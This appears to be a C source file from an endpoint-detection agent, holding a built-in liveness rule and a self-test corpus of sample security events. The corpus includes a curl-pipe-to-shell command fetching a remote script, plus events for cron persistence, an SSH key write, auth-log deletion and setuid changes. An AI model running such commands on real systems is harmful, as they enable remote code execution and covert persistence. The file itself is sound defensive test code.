/*
 * The agent's built-in liveness rule and self-test corpus. Both are data kept in the binary,
 * so the checks a bundle must pass before activation do not depend on anything on disk.
 */
#include "selftest.h"

#include <errno.h>
#include <inttypes.h>
#include <stdio.h>
#include <string.h>

#include "../lib/event_json.h"

static const char builtin_yaml[] =
    "rules:\n"
    "  - id: " SELFTEST_LIVENESS_RULE "\n"
    "    name: vigil detection liveness marker\n"
    "    description: Built into vigil-agent. Raised by the synthetic event the agent passes\n"
    "      through its live rule engine to prove that detection still works.\n"
    "    level: informational\n"
    "    condition:\n"
    "      all:\n"
    "        - event.action: exec\n"
    "        - process.command_line: {startswith: \"" SELFTEST_LIVENESS_MARKER "\"}\n"
    "    tests:\n"
    "      match:\n"
    "        - {event.action: exec, process.command_line: \"" SELFTEST_LIVENESS_MARKER " 1\"}\n"
    "      nomatch:\n"
    "        - {event.action: exec, process.command_line: \"/bin/echo " SELFTEST_LIVENESS_MARKER
    "\"}\n"
    "        - {event.action: fork, process.command_line: \"" SELFTEST_LIVENESS_MARKER " 1\"}\n";

static const struct rules_source builtin_source = {
    .name = "vigil-agent/builtin.yml",
    .data = builtin_yaml,
    .len = sizeof(builtin_yaml) - 1,
};

const struct rules_source *selftest_builtin_source(void)
{
	return &builtin_source;
}

/*
 * Ordinary events of every kind the sensor reports, written as the agent writes them. Each
 * must evaluate without an engine error, and none may raise the liveness rule.
 */
static const char *const corpus[] = {
    "{\"@timestamp\":\"2024-07-19T04:09:00.000000000Z\",\"event\":{\"kind\":\"event\","
    "\"category\":\"process\",\"action\":\"exec\"},\"process\":{\"pid\":4242,"
    "\"executable\":\"/usr/bin/ls\",\"name\":\"ls\",\"command_line\":\"ls -la /tmp\","
    "\"args\":[\"ls\",\"-la\",\"/tmp\"],\"args_count\":3,\"working_directory\":\"/root\","
    "\"parent\":{\"pid\":4000,\"executable\":\"/usr/bin/bash\",\"name\":\"bash\","
    "\"command_line\":\"-bash\"},\"ancestors\":[\"/usr/bin/bash\",\"/usr/sbin/sshd\","
    "\"/usr/lib/systemd/systemd\"]},\"user\":{\"id\":\"0\",\"name\":\"root\","
    "\"effective\":{\"id\":\"0\"}}}",
    "{\"event\":{\"kind\":\"event\",\"category\":\"process\",\"action\":\"exec\"},"
    "\"process\":{\"pid\":4243,\"executable\":\"/usr/bin/bash\",\"name\":\"bash\","
    "\"command_line\":\"bash -c curl -s http://10.0.0.1/x.sh | sh\",\"args\":[\"bash\","
    "\"-c\",\"curl -s http://10.0.0.1/x.sh | sh\"],\"working_directory\":\"/tmp\"},"
    "\"user\":{\"id\":\"1000\",\"name\":\"alice\"}}",
    "{\"event\":{\"kind\":\"event\",\"category\":\"process\",\"action\":\"exec\"},"
    "\"process\":{\"pid\":4244,\"executable\":\"/tmp/.x/" SELFTEST_LIVENESS_MARKER "\","
    "\"name\":\"" SELFTEST_LIVENESS_MARKER "\",\"command_line\":\"./" SELFTEST_LIVENESS_MARKER
    "\"}}",
    "{\"event\":{\"kind\":\"event\",\"category\":\"process\",\"action\":\"fork\"},"
    "\"process\":{\"pid\":4245,\"parent\":{\"pid\":4243}}}",
    "{\"event\":{\"kind\":\"event\",\"category\":\"process\",\"action\":\"exit\"},"
    "\"process\":{\"pid\":4245,\"exit_code\":137}}",
    "{\"event\":{\"kind\":\"event\",\"category\":\"network\",\"action\":\"connect\"},"
    "\"process\":{\"pid\":4243,\"executable\":\"/usr/bin/curl\",\"name\":\"curl\"},"
    "\"source\":{\"ip\":\"192.0.2.10\",\"port\":51234},\"destination\":{\"ip\":"
    "\"198.51.100.7\",\"port\":443},\"network\":{\"transport\":\"tcp\",\"direction\":"
    "\"egress\",\"type\":\"ipv4\"}}",
    "{\"event\":{\"kind\":\"event\",\"category\":\"network\",\"action\":\"accept\"},"
    "\"process\":{\"pid\":812,\"executable\":\"/usr/sbin/sshd\",\"name\":\"sshd\"},"
    "\"source\":{\"ip\":\"2001:db8::5\",\"port\":60000},\"destination\":{\"ip\":\"2001:db8::1\","
    "\"port\":22},\"network\":{\"transport\":\"tcp\",\"direction\":\"ingress\","
    "\"type\":\"ipv6\"}}",
    "{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"create\"},"
    "\"process\":{\"pid\":4243,\"executable\":\"/usr/bin/bash\"},\"file\":{\"path\":"
    "\"/etc/cron.d/evil\",\"name\":\"evil\",\"directory\":\"/etc/cron.d\",\"mode\":\"0644\"}}",
    "{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"write\"},"
    "\"process\":{\"pid\":4243},\"file\":{\"path\":\"/root/.ssh/authorized_keys\","
    "\"name\":\"authorized_keys\",\"directory\":\"/root/.ssh\"}}",
    "{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"rename\"},"
    "\"process\":{\"pid\":4243},\"file\":{\"path\":\"/tmp/a\",\"name\":\"a\","
    "\"directory\":\"/tmp\",\"target_path\":\"/usr/local/bin/a\"}}",
    "{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"delete\"},"
    "\"process\":{\"pid\":4243},\"file\":{\"path\":\"/var/log/auth.log\"}}",
    "{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"chmod\"},"
    "\"process\":{\"pid\":4243},\"file\":{\"path\":\"/tmp/a\",\"mode\":\"4755\"}}",
    "{\"event\":{\"kind\":\"event\",\"category\":\"driver\",\"action\":\"module-load\"},"
    "\"process\":{\"pid\":1},\"kernel\":{\"module\":{\"name\":\"nf_tables\"}}}",
    "{\"event\":{\"kind\":\"event\",\"category\":\"process\",\"action\":\"ptrace\"},"
    "\"process\":{\"pid\":4250,\"target\":{\"pid\":812,\"executable\":\"/usr/sbin/sshd\"}}}",
    "{\"event\":{\"kind\":\"event\",\"category\":\"host\",\"action\":\"setuid\"},"
    "\"process\":{\"pid\":4251},\"user\":{\"id\":\"1000\",\"changes\":{\"id\":\"0\"}}}",
    "{\"event\":{\"kind\":\"event\",\"category\":\"file\",\"action\":\"memfd-create\"},"
    "\"process\":{\"pid\":4252},\"file\":{\"name\":\"memfd:payload\"}}",
    "{\"event\":{\"kind\":\"event\",\"action\":\"exec\"}}",
};

int selftest_marker_event(struct event *ev, uint64_t nonce)
{
	char cmd[64];
	int err = 0;

	event_reset(ev);
	snprintf(cmd, sizeof(cmd), SELFTEST_LIVENESS_MARKER " %016" PRIx64, nonce);
	err |= event_set_cstr(ev, F_EVENT_KIND, "event");
	err |= event_set_cstr(ev, F_EVENT_CATEGORY, "process");
	err |= event_set_cstr(ev, F_EVENT_ACTION, "exec");
	err |= event_set_cstr(ev, F_PROCESS_NAME, SELFTEST_LIVENESS_MARKER);
	err |= event_set_cstr(ev, F_PROCESS_COMMAND_LINE, cmd);
	return err ? -EINVAL : 0;
}

struct probe {
	unsigned liveness;
	unsigned other;
};

static void on_probe_alert(void *ctx, const struct rule_info *rule, const struct event *ev)
{
	struct probe *p = ctx;
	(void)ev;
	if (strcmp(rule->id, SELFTEST_LIVENESS_RULE) == 0)
		p->liveness++;
	else
		p->other++;
}

int selftest_liveness_probe(struct engine *e, struct event *ev, uint64_t nonce, uint64_t now_ns,
			    unsigned *alerts)
{
	struct probe p = {0};
	int ret;

	*alerts = 0;
	ret = selftest_marker_event(ev, nonce);
	if (ret < 0)
		return ret;
	ret = engine_eval(e, ev, now_ns, on_probe_alert, &p);
	*alerts = p.liveness + p.other;
	if (ret < 0)
		return ret;
	return p.liveness == 1;
}

int selftest_run(const struct ruleset *rs, struct selftest_result *res, char *err, size_t errlen)
{
	struct rules_test_result tr;
	struct engine_stats stats;
	struct engine *e = NULL;
	struct event *ev = NULL;
	struct buf report;
	char why[256];
	int ret;

	memset(res, 0, sizeof(*res));
	memset(&tr, 0, sizeof(tr));
	buf_init(&report, 64u * 1024u);
	ret = ruleset_run_tests(rs, &report, &tr);
	res->tests_passed = tr.passed;
	res->tests_failed = tr.failed;
	if (ret == -EINVAL) {
		const char *first = report.data ? report.data : "";
		snprintf(err, errlen, "%u rule test%s failed; first: %.*s", tr.failed,
			 tr.failed == 1 ? "" : "s", (int)strcspn(first, "\n"), first);
		goto out;
	}
	if (ret < 0) {
		snprintf(err, errlen, "rule tests could not run: %s", strerror(-ret));
		goto out;
	}
	if (!ruleset_find(rs, SELFTEST_LIVENESS_RULE)) {
		snprintf(err, errlen, "self-test: the built-in rule %s is missing",
			 SELFTEST_LIVENESS_RULE);
		ret = -EINVAL;
		goto out;
	}
	ev = event_new();
	ret = ev ? engine_new(rs, NULL, &e) : -ENOMEM;
	if (ret < 0) {
		snprintf(err, errlen, "self-test: cannot start an engine: %s", strerror(-ret));
		goto out;
	}
	unsigned alerts;
	ret = selftest_liveness_probe(e, ev, 0x5e1f7e57ull, 1721361600ull * 1000000000ull, &alerts);
	if (ret != 1) {
		snprintf(err, errlen, "self-test: the liveness marker did not raise %s%s",
			 SELFTEST_LIVENESS_RULE, ret < 0 ? " (evaluation failed)" : "");
		ret = -EINVAL;
		goto out;
	}
	for (size_t i = 0; i < sizeof(corpus) / sizeof(corpus[0]); i++) {
		struct probe p = {0};
		ret = event_parse_json(ev, corpus[i], strlen(corpus[i]), why, sizeof(why), NULL);
		if (ret != EVENT_PARSED) {
			snprintf(err, errlen, "self-test: built-in event %zu does not parse: %s", i,
				 why);
			ret = -EINVAL;
			goto out;
		}
		ret = engine_eval(e, ev, (1721361600ull + i) * 1000000000ull, on_probe_alert, &p);
		if (ret < 0 || p.liveness) {
			snprintf(err, errlen, "self-test: built-in event %zu %s", i,
				 ret < 0 ? "failed to evaluate" : "raised the liveness rule");
			ret = -EINVAL;
			goto out;
		}
		res->corpus_events++;
	}
	engine_get_stats(e, &stats);
	if (stats.errors) {
		snprintf(err, errlen, "self-test: %" PRIu64 " pattern scans failed",
			 (uint64_t)stats.errors);
		ret = -EINVAL;
		goto out;
	}
	ret = 0;
out:
	engine_free(e);
	event_free(ev);
	buf_release(&report);
	return ret;
}
